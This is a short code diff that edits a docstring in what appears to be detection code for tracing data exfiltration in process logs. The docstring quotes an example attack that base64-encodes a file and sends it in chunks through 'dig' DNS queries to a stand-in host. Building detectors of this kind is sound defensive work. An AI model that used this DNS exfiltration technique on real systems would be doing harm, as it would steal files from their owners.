@@ -6773,8 +6773,8 @@ def _copy_transports(view: LogView, senders: set[str]) -> dict[str, set[str]]:
 
 
 def _argument_carriers(view: LogView, reading: np.ndarray, staged: set[str], sends: np.ndarray) -> dict[str, set[str]]:
-    """Each process behind ``sends`` that a shell, script host or admin shell started in or
-    after the minute that shell read a file of ``staged`` (collected data staged, encoded or
+    """Each process behind ``sends`` that a shell, interpreter or admin tool (``OPERATOR_TOOLS``:
+    cmd, PowerShell) started in or after the minute it read a file of ``staged`` (collected data staged, encoded or
     split: ``base64 docs.csv > .s1``, then ``dig $chunk.evil.example`` per line) -> those
     shells: the data went out in the started program's arguments (DNS queries, a ping's
     pattern), which the log does not record; the shell's read of it is the sender's."""
